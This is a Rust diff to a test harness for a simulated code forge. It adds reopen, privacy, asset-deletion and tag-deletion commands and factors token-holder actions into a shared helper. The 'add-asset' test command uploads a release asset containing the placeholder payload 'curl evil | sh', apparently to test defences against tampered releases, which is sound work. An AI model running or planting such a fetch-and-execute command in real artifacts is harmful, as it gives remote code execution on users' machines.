@@ -4,11 +4,12 @@ use std::path::Path;
 
 use lockgate_core::escape::quoted;
 use lockgate_core::promote::ENVIRONMENT;
+use lockgate_forge_embedded::state::State;
 use lockgate_forge_embedded::state::assets::NewAsset;
 use lockgate_forge_embedded::state::people::Actor;
 use lockgate_forge_embedded::state::refusal::Refusal;
 use lockgate_forge_embedded::state::settings::{Grouping, Ruleset, Settings};
-use lockgate_forge_embedded::{Blob, Fault, MergeMethod, PullNumber, Side};
+use lockgate_forge_embedded::{Blob, Fault, MergeMethod, PullNumber, Repository, Side};
 
 use super::Room;
 use super::scenery::Sample;
@@ -148,6 +149,14 @@ impl<'a> Actors<'a> {
                     .map_err(|e| error(e.to_string()))
                     .map(|()| String::new())
             }
+            ["reopen", pull] => {
+                let pull = number(pull)?;
+                let number = PullNumber(pull);
+                self.does("developer-token", |state, git, _, now| {
+                    state.reopen_pull(now, git, number)
+                })?;
+                Ok(told(&[self.stage()?.gate(pull)?], true))
+            }
             ["start", pull] => {
                 let pull = number(pull)?;
                 let stage = self.stage()?;
@@ -230,8 +239,11 @@ impl<'a> Actors<'a> {
                 self.stage()?.forge.set(change);
                 Ok(String::new())
             }
-            ["private", "on"] => {
-                self.stage()?.forge.set(|settings| settings.private = true);
+            ["private", how @ ("on" | "off")] => {
+                let private = *how == "on";
+                self.stage()?
+                    .forge
+                    .set(|settings: &mut Settings| settings.private = private);
                 Ok(String::new())
             }
             ["runs-behind", reads] => {
@@ -280,36 +292,29 @@ impl<'a> Actors<'a> {
                     .map_err(|e| error(e.to_string()))
                     .map(|()| String::new())
             }
-            ["add-asset", tag, name] => {
-                let forge = self.stage()?.forge.clone();
-                let added = forge.with(|state, _, now| {
-                    let writer = state.holder("developer-token");
-                    let writer = writer.unwrap_or(Actor::Anonymous);
-                    let release = state.release_by_tag(tag)?.id;
-                    let order = NewAsset {
-                        name: (*name).to_owned(),
-                        ..NewAsset::default()
-                    };
-                    let bytes = Blob::of(b"curl evil | sh");
-                    state
-                        .upload_asset(&writer, now, release, order, bytes)
-                        .map(drop)
-                });
-                added
-                    .map_err(|e| error(e.to_string()))
-                    .map(|()| String::new())
-            }
-            ["make-tag", tag, branch] => {
-                let forge = self.stage()?.forge.clone();
-                let made = forge.with(|_, git, _| {
-                    let at = git.resolve(&format!("refs/heads/{branch}"))?;
-                    let at = at.ok_or(Refusal::NotFound)?;
-                    git.set_reference(&format!("refs/tags/{tag}"), &at)?;
-                    Ok::<(), Refusal>(())
-                });
-                made.map_err(|e| error(e.to_string()))
-                    .map(|()| String::new())
-            }
+            ["add-asset", tag, name] => self.does("developer-token", |state, _, writer, now| {
+                let release = state.release_by_tag(tag)?.id;
+                let order = NewAsset {
+                    name: (*name).to_owned(),
+                    ..NewAsset::default()
+                };
+                let bytes = Blob::of(b"curl evil | sh");
+                state
+                    .upload_asset(writer, now, release, order, bytes)
+                    .map(drop)
+            }),
+            ["delete-asset", tag, name] => self.does("maintainer-token", |state, _, who, now| {
+                let asset = state.public_asset(tag, name)?.id;
+                state.delete_asset(who, now, asset)
+            }),
+            ["delete-tag", tag] => self.does("maintainer-token", |state, git, who, _| {
+                state.delete_reference(who, git, &format!("refs/tags/{tag}"))
+            }),
+            ["make-tag", tag, branch] => self.does("developer-token", |_, git, _, _| {
+                let at = git.resolve(&format!("refs/heads/{branch}"))?;
+                let at = at.ok_or(Refusal::NotFound)?;
+                Ok(git.set_reference(&format!("refs/tags/{tag}"), &at)?)
+            }),
             ["delete-artifact", name] => {
                 let forge = self.stage()?.forge.clone();
                 let id = forge.look(|state| {
@@ -365,6 +370,22 @@ impl<'a> Actors<'a> {
             ["show", "calls"] => self.call_count(),
             _ => Err(unknown()),
         }
+    }
+
+    /// The holder of a token does something on the forge.
+    fn does(
+        &mut self,
+        token: &str,
+        what: impl FnOnce(&mut State, &dyn Repository, &Actor, i64) -> Result<(), Refusal>,
+    ) -> Result<String, Failure> {
+        let done = self.stage()?.forge.with(|state, git, now| {
+            let actor = state.holder(token).unwrap_or(Actor::Anonymous);
+            what(state, git, &actor, now)
+        });
+        done.map(|()| String::new()).map_err(|error| {
+            let problem = error.to_string();
+            Trouble::Rehearsal { problem }.into()
+        })
     }
 
     fn file(
